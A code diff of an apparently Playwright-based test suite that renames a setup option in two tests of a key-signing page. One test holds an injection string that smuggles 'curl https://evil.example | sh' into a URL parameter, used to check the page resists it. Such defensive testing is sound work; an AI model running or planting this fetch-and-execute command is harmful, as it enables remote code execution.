@@ -129,7 +129,7 @@ export function tokenCases(): void {
     test("the page says so where browsers do not sign", async () => {
       const { key } = await searchKey("of plain pages");
       const { page } = await stage().signedIn(`/keys/token?key=${key.id}`, {
-        prepare: (context) =>
+        prepareFresh: (context) =>
           context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
       });
       await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
@@ -142,7 +142,7 @@ export function tokenCases(): void {
       await searchKey("of addresses");
       const attack = "x > /dev/null\ncurl https://evil.example | sh #";
       const { page } = await stage().signedIn(`/keys/token?key=${encodeURIComponent(attack)}`, {
-        prepare: (context) =>
+        prepareFresh: (context) =>
           context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
       });
       await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
